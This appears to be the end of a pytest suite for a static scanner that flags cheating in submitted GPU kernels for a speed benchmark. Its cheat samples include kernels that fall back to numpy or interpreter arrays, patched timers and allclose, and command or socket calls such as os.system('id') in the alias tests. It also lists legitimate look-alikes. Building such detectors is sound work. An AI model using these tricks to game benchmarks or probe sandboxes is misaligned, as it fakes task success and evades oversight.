    def k(x_ptr, y_ptr, n, BLOCK: tl.constexpr):
        offs = tl.arange(0, BLOCK)
        x = tl.load(x_ptr + offs)
        tl.store(y_ptr + offs, _helper(x))  # <-
    """,
    """
    # KW-S091 hard kernel-calls-numpy
    import numpy as np
    import triton
    import triton.language as tl
    @triton.jit
    def k(x_ptr, y_ptr, n, BLOCK: tl.constexpr):
        offs = tl.arange(0, BLOCK)
        x = tl.load(x_ptr + offs)
        tl.store(y_ptr + offs, np.maximum(x, 0))  # <-
    """,
    """
    # KW-S091 hard kernel-reads-interpreter-arrays
    import triton
    import triton.language as tl
    @triton.jit
    def k(x_ptr, y_ptr, n, BLOCK: tl.constexpr):
        offs = tl.arange(0, BLOCK)
        x = tl.load(x_ptr + offs)
        tl.store(y_ptr + offs, x.handle.data.clip(0))  # <-
    """,
]


@pytest.mark.parametrize("text", CHEATS, ids=[_header(c)[2] for c in CHEATS])
def test_cheat_is_caught(text: str) -> None:
    code, severity, _ = _header(text)
    source = _src(text)
    line = _marked_line(source)
    findings = _scan(source)
    hits = [f for f in findings if f.code == code]
    assert hits, f"expected {code}; got:\n{_describe(findings)}"
    assert any(f.line == line for f in hits), f"expected {code} at line {line}; got:\n{_describe(findings)}"
    hit = next(f for f in hits if f.line == line)
    assert hit.severity == severity
    assert hit.snippet == source.splitlines()[line - 1].strip()
    rule = next(r for r in RULES if r.code == code)
    assert (hit.rule, hit.category) == (rule.rule, rule.category)
    if severity == "hard":
        assert hit.category is not None


# -- legitimate look-alikes: first line "# not CODE ID"; no hard finding, and never CODE ----------------

LOOK_ALIKES: list[str] = [
    """
    # not KW-S012 reads-events-and-clock
    import time
    import torch
    start = torch.cuda.Event(enable_timing=True)
    start.record()
    t0 = time.perf_counter()
    torch.cuda.synchronize()
    """,
    """
    # not KW-S012 stores-reference-on-self
    import torch
    class ModelNew:
        def __init__(self):
            self.sync = torch.cuda.synchronize
            self.timer = None
    """,
    """
    # not KW-S010 settings
    import torch
    import torch._dynamo
    import torch._inductor.config
    torch.backends.cuda.matmul.allow_tf32 = True
    torch.backends.cudnn.allow_tf32 = True
    torch.backends.cudnn.benchmark = True
    torch._dynamo.config.cache_size_limit = 64
    torch._inductor.config.max_autotune = True
    torch.set_float32_matmul_precision("high")
    """,
    """
    # not KW-S010 own-objects
    import triton
    import torch.nn as nn
    class ModelNew(nn.Module):
        def __init__(self):
            super().__init__()
            self.cache = {}
            object.__setattr__(self, "frozen", True)
            setattr(self, "n", 1)
    ModelNew.VERSION = 2
    cfg = triton.Config({"BLOCK": 64}, num_warps=4)
    cfg.num_stages = 3
    """,
    """
    # not KW-S010 computed-reads-and-own-module
    import sys
    import torch
    import torch.nn.functional as F
    def helper(x):
        return x
    setattr(sys.modules[__name__], "helper2", helper)
    setattr(torch.backends.cudnn, "bench" + "mark", True)
    def forward(x, name="relu"):
        act = getattr(F, name)
        return act(getattr(torch, "float" + "32"))
    """,
    """
    # not KW-S011 local-name-shadows-builtin
    def len(x):
        return 0
    print = len
    """,
    """
    # not KW-S013 sys-path-and-module-lookup
    import os
    import sys
    sys.path.insert(0, os.path.dirname(__file__))
    me = sys.modules[__name__]
    """,
    """
    # not KW-S015 main-block-and-prints
    import sys
    def main():
        print("ok")
        sys.stdout.flush()
        return 0
    if __name__ == "__main__":
        sys.exit(main())
    """,
    """
    # not KW-S014 compile-lookalikes
    import re
    import torch
    pat = re.compile("x")
    fn = torch.compile(lambda x: x)
    """,
    """
    # not KW-S020 inspect-signature
    import inspect
    import traceback
    sig = inspect.signature(print)
    try:
        pass
    except Exception:
        traceback.print_exc()
        raise
    """,
    """
    # not KW-S021 gc-collect
    import gc
    gc.collect()
    """,
    """
    # not KW-S022 recursion-limit
    import sys
    sys.setrecursionlimit(10000)
    """,
    """
    # not KW-S030 os-metadata
    import os
    n = os.cpu_count()
    here = os.path.join(os.path.dirname(__file__), "x")
    pid = os.getpid()
    """,
    """
    # not KW-S031 network-lookalike-names
    requests = []
    socket_count = 3
    requests.append(socket_count)
    """,
    """
    # not KW-S032 native-via-load-inline
    from torch.utils.cpp_extension import load_inline
    ext = load_inline(name="e", cpp_sources="int f();", functions=["f"])
    """,
    """
    # not KW-S033 paths-in-prose
    def forward(x):
        '''Never writes to /tmp or /home; see /proc docs.'''
        msg = "no files under /tmp or /etc are used"
        cuda_home = "/usr/local/cuda"
        return open("weights.bin", "rb")
    """,
    """
    # not KW-S034 harmless-env
    import os
    cache = os.environ.get("TRITON_CACHE_DIR")
    debug = os.getenv("KW_DEBUG", "0")
    blocking = os.environ["CUDA_LAUNCH_BLOCKING"]
    """,
    """
    # not KW-S037 pip-in-prose
    def f():
        '''Install with pip install kernelwright.'''
        pipeline = "pipeline install"
        return pipeline
    """,
    """
    # not KW-S041 clean-cuda
    from torch.utils.cpp_extension import load_inline
    src = '''
    #include <torch/extension.h>
    #include <filesystem>
    __global__ void k(float* y, int n) {
        int i = threadIdx.x;
        if (i < n) { y[i] = 0.f; }
        __syncthreads();
        printf("filesystem(%d)", n);
    }
    void my_system_check(int n) {}
    '''
    ext = load_inline(name="e", cpp_sources="", cuda_sources=src, functions=[])
    """,
    """
    # not KW-S050 try-import
    try:
        import triton
    except ImportError:
        triton = None
    """,
    """
    # not KW-S050 try-reraise
    import logging
    import torch
    log = logging.getLogger(__name__)
    def forward(x):
        out = torch.empty_like(x)
        try:
            k[(1,)](x, out)
        except Exception as e:
            log.exception("launch failed")
            raise RuntimeError("kernel launch failed") from e
        return out
    """,
    """
    # not KW-S050 try-fallback-to-other-kernel
    import torch
    def forward(x):
        out = torch.empty_like(x)
        try:
            fast_kernel[(1,)](x, out, BLOCK=4096)
        except Exception:
            out = torch.empty_like(x)
            safe_kernel[(1,)](x, out, BLOCK=1024)
        return out
    """,
    """
    # not KW-S050 try-without-launch
    import torch
    def forward(x):
        try:
            props = torch.cuda.get_device_properties(0)
        except Exception:
            props = None
        return torch.relu(x)
    """,
    """
    # not KW-S051 super-init
    import torch.nn as nn
    class ModelNew(nn.Module):
        def __init__(self):
            super().__init__()
    """,
    """
    # not KW-S060 plain-tensor-use
    import torch
    import torch.nn as nn
    class ModelNew(nn.Module):
        def __init__(self):
            super().__init__()
            self.w = nn.Parameter(torch.randn(4))
        def forward(self, x):
            assert isinstance(x, torch.Tensor)
            return self.w.as_subclass(torch.Tensor) + x
    """,
    """
    # not KW-S070 thread-primitives
    import threading
    _lock = threading.Lock()
    tid = threading.get_ident()
    """,
    """
    # not KW-S080 counter-for-logging
    class ModelNew:
        def forward(self, x):
            self.calls += 1
            if self.calls % 100 == 0:
                print("calls", self.calls)
            return work(x)
    """,
    """
    # not KW-S080 counter-never-tested
    class ModelNew:
        def forward(self, x):
            self.calls += 1
            self.bytes_seen += x.numel()
            return work(x)
    """,
    """
    # not KW-S080 double-buffer-and-loops
    class ModelNew:
        def forward(self, x):
            self._i = (self._i + 1) % 2
            if self._i == 0:
                buf = self._a
            else:
                buf = self._b
            n = 1
            while n < x.shape[-1]:
                n *= 2
            i = 0
            for _ in range(3):
                i += 1
                if i > 2:
                    break
            return work(x, buf, n)
    """,
    """
    # not KW-S081 buffer-pool-and-lazy-extension
    import torch
    from torch.utils.cpp_extension import load_inline
    class ModelNew:
        def __init__(self):
            self._mod = None
        def forward(self, x):
            if not self._pool:
                self._pool.append(torch.empty_like(x))
            out = self._pool[0]
            k[(1,)](x, out)
            if self._mod is None:
                self._mod = load_inline(name="e", cpp_sources="", cuda_sources="", functions=["f"])
            return self._mod.f(out)
    """,
    """
    # not KW-S081 weight-cache-dict
    import torch
    class ModelNew:
        def forward(self, x):
            key = (self.weight.data_ptr(), self.weight._version)
            wt = self._wcache.get(key)
            if wt is None:
                wt = self.weight.t().contiguous()
                self._wcache = {key: wt}
            out = torch.empty(x.shape[0], wt.shape[1], device=x.device)
            mm[(1,)](x, wt, out)
            return out
    """,
    """
    # not KW-S080 seed-counter-and-dtype-dispatch
    import torch
    class ModelNew:
        def forward(self, x):
            self.seed += 1
            out = torch.empty_like(x)
            if x.dtype == torch.float16:
                dropout16[(1,)](x, out, self.seed)
            else:
                dropout32[(1,)](x, out, self.seed)
            return out
    """,
    """
    # not KW-S050 try-smaller-block-on-out-of-resources
    import torch
    import triton
    def forward(x):
        out = torch.empty_like(x)
        try:
            big[(1,)](x, out, BLOCK=8192)
        except triton.runtime.errors.OutOfResources:
            small[(1,)](x, out, BLOCK=1024)
        return out
    """,
    """
    # not KW-S082 clock-for-logging-and-plain-checks
    import time
    import torch
    class ModelNew:
        def forward(self, x):
            t0 = time.perf_counter()
            if not x.is_cuda or x.dtype != torch.float32:
                raise ValueError("needs a CUDA float32 tensor")
            out = torch.empty_like(x)
            k[(1,)](x, out)
            if time.perf_counter() - t0 > 1.0:
                print("slow call")
            return out
    """,
    """
    # not KW-S081 buffer-reuse-by-shape
    import torch
    class ModelNew:
        def forward(self, x):
            out = self._bufs.get(x.shape)
            if out is None:
                out = torch.empty_like(x)
                self._bufs[x.shape] = out
            if x.shape[-1] <= 1024:
                small_kernel[(1,)](x, out)
            else:
                big_kernel[(1,)](x, out)
            return out
    """,
    """
    # not KW-S081 persistent-output-buffer
    import torch
    class ModelNew:
        def forward(self, x):
            if self._out is None or self._out.shape != x.shape:
                self._out = torch.empty_like(x)
            k[(1,)](x, self._out)
            return self._out
    """,
    """
    # not KW-S081 compiled-kernel-cache
    import torch
    class ModelNew:
        def forward(self, x):
            key = (x.shape, x.dtype)
            kern = self._kernels.get(key)
            if kern is None:
                kern = build(key)
                self._kernels[key] = kern
            out = torch.empty_like(x)
            kern[(1,)](x, out)
            return out
    """,
    """
    # not KW-S081 lru-cache-configs-and-ext
    import functools
    import torch
    from torch.utils.cpp_extension import load_inline
    @functools.lru_cache(maxsize=None)
    def _sms():
        return torch.cuda.get_device_properties(0).multi_processor_count
    @functools.cache
    def _ext():
        return load_inline(name="e", cpp_sources="int f();", functions=["f"])
    @functools.lru_cache
    def _block(n):
        return 1 << (n - 1).bit_length()
    """,
    """
    # not KW-S091 kernel-calls-triton-jit-and-methods
    import triton
    import triton.language as tl
    from triton.language.extra import libdevice
    @triton.jit
    def act(x):
        return tl.maximum(x, 0.0)
    @triton.jit
    def k(x_ptr, y_ptr, n, ACT: tl.constexpr, BLOCK: tl.constexpr):
        pid = tl.program_id(0).to(tl.int64)
        offs = pid * BLOCK + tl.arange(0, BLOCK)
        x = tl.load(x_ptr + offs, mask=offs < n, other=0.0).to(tl.float32)
        y = ACT(act(x)) + libdevice.exp(x) * 0.0 + min(BLOCK, 4) * 0.0
        tl.store(y_ptr + offs, y.to(y_ptr.dtype.element_ty), mask=offs < n)
    """,
]


@pytest.mark.parametrize("text", LOOK_ALIKES, ids=[_header(c)[2] for c in LOOK_ALIKES])
def test_look_alike_is_not_flagged_hard(text: str) -> None:
    code = _header(text)[1]
    findings = _scan(_src(text))
    assert not any(f.code == code for f in findings), _describe(findings)
    assert not _hard(findings), _describe(findings)


# -- complete legitimate candidates ------------------------------------------------------------------


@pytest.mark.parametrize("name", sorted(LEGIT_FILES))
def test_legit_candidate_has_no_hard_finding(name: str) -> None:
    source = LEGIT_FILES[name]
    compile(source, name, "exec")  # each fixture is real, parseable code
    assert "@triton.jit" in source or "load_inline" in source
    findings = _scan(source)
    assert not _hard(findings), _describe(findings)


def test_legit_soft_findings_are_the_expected_ones() -> None:
    assert {f.code for f in _scan(LEGIT_STREAM)} == {"KW-S090"}
    assert all("join" in f.message and "was seen" in f.message for f in _scan(LEGIT_STREAM))
    assert [f.code for f in _scan(LEGIT_CUDA)] == ["KW-S040"]
    for name in ("transposed-weight-cache", "per-shape-config-cache", "vendor-gemm-plus-epilogue"):
        assert _scan(LEGIT_FILES[name]) == [], name


# -- alias resolution ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "code"),
    [
        ("import torch as T\nT.cuda.synchronize = None\n", "KW-S012"),
        ("import torch.cuda as tc\ntc.synchronize = None\n", "KW-S012"),
        ("from torch import cuda as c\nc.Event = object\n", "KW-S012"),
        ("from time import perf_counter as pc\nsetattr(pc, '__call__', None)\n", "KW-S012"),
        ("import time as t\nt.monotonic_ns = None\n", "KW-S012"),
        ("import torch\na, b = torch.testing, 1\na.assert_close = None\n", "KW-S010"),
        ("import torch\nm = torch.nn.functional\nsetattr(m, 'relu', None)\n", "KW-S010"),
        ("import sys as s\ns.modules['torch'] = None\n", "KW-S013"),
        ("import os as o\no.system('id')\n", "KW-S030"),
        ("import subprocess as sp\nsp.run(['id'])\n", "KW-S030"),
        ("from os import popen as p\np('id')\n", "KW-S030"),
        ("import gc as g\ng.get_objects()\n", "KW-S021"),
        ("import inspect as i\nf = i.stack\n", "KW-S020"),
        ("import importlib\nimportlib.import_module('socket').socket()\n", "KW-S031"),
    ],
)
def test_alias_resolution(text: str, code: str) -> None:
    findings = _scan(text)
    assert any(f.code == code and f.line == text.count("\n") for f in findings), _describe(findings)


def test_local_names_do_not_resolve_to_builtins_or_modules() -> None:
    text = _src("""
        def setattr(obj, name, value):
            return None
        class time:
            perf_counter = None
        setattr(time, "perf_counter", 1)
        time.perf_counter = 2
    """)
    assert _scan(text) == []


# -- syntax errors, empty files, robustness -----------------------------------------------------------


def test_syntax_error_is_one_hard_compile_error() -> None:
    findings = _scan("import torch\n\ndef forward(self, x)\n    return x\n")
    assert len(findings) == 1
    f = findings[0]
    assert (f.code, f.rule, f.severity, f.category, f.line) == (
        "KW-S000",
        "syntax-error",
        "hard",
        "compile-error",
        3,
    )
    assert "expected ':'" in f.message
    assert f.snippet == "def forward(self, x)"


def test_null_bytes_are_a_syntax_error() -> None:
    findings = _scan("x = 1\x00\n")
    assert [f.code for f in findings] == ["KW-S000"]


def test_empty_file_is_clean() -> None:
    assert _scan("") == []


def test_findings_are_sorted_and_deduplicated() -> None:
    text = "import torch\ntorch.allclose = None\nimport subprocess\nimport subprocess\n"
    findings = _scan(text)
    assert [(f.line, f.code) for f in findings] == [(2, "KW-S010"), (3, "KW-S030"), (4, "KW-S030")]
    assert findings == sorted(findings, key=lambda f: (f.line, f.col, f.code))


def test_columns_are_one_based() -> None:
    (f,) = _scan("import torch\nif True:\n    torch.allclose = None\n")
    assert (f.line, f.col) == (3, 5)


def test_exec_findings_point_at_the_exec_call() -> None:
    findings = _scan("x = 1\nexec('import gc; gc.get_objects()')\n")
    hard = _hard(findings)
    assert [(f.code, f.line) for f in hard] == [("KW-S021", 2)]
    assert hard[0].message.startswith("in the code run by exec()")
    assert any(f.code == "KW-S014" and f.severity == "soft" for f in findings)


# -- the rules table and the Finding model -------------------------------------------------------------


def test_rules_table_is_well_formed() -> None:
    codes = [r.code for r in RULES]
    assert len(codes) == len(set(codes)), "codes must be unique"
    assert len({r.rule for r in RULES}) == len(RULES), "rule names must be unique"
    for r in RULES:
        assert re.fullmatch(r"KW-S\d{3}", r.code), r.code
        assert re.fullmatch(r"[a-z]+(-[a-z]+)*", r.rule), r.rule
        assert r.severity in ("hard", "soft")
        assert r.description and "\n" not in r.description
        if r.severity == "hard":
            assert r.category in {
                "tampering",
                "sandbox",
                "reference-passthrough",
                "timing-evasion",
                "compile-error",
            }
    assert codes == sorted(codes)


def test_every_emitted_code_is_in_the_rules_table() -> None:
    for text in CHEATS + LOOK_ALIKES:
        _scan(_src(text))
    for source in LEGIT_FILES.values():
        _scan(source)
    known = {r.code for r in RULES}
    assert EMITTED.issubset(known), EMITTED - known
    # every rule except the internal guard-error is exercised by a cheat above
    assert {_header(c)[0] for c in CHEATS} | {"KW-S000", "KW-S999"} == known


def test_finding_model() -> None:
    f = Finding(
        code="KW-S012",
        rule="timer-patch",
        severity=Severity.HARD,
        category="tampering",
        message="m",
        line=2,
        col=1,
        snippet="x",
    )
    assert f.severity == "hard" and f.model_dump()["severity"] == "hard"
    reason = f.to_reason("cand.py")
    assert (reason.code, reason.severity, reason.category) == ("KW-S012", "hard", "tampering")
    assert reason.evidence == "cand.py:2: x"
    with pytest.raises(ValidationError):
        Finding(
            code="KW-S012", rule="r", severity="hard", category=None, message="m", line=1, col=1, snippet=""
        )
    with pytest.raises(ValidationError):
        bad: Any = "fatal"
        Finding(code="KW-S012", rule="r", severity=bad, message="m", line=1, col=1, snippet="")
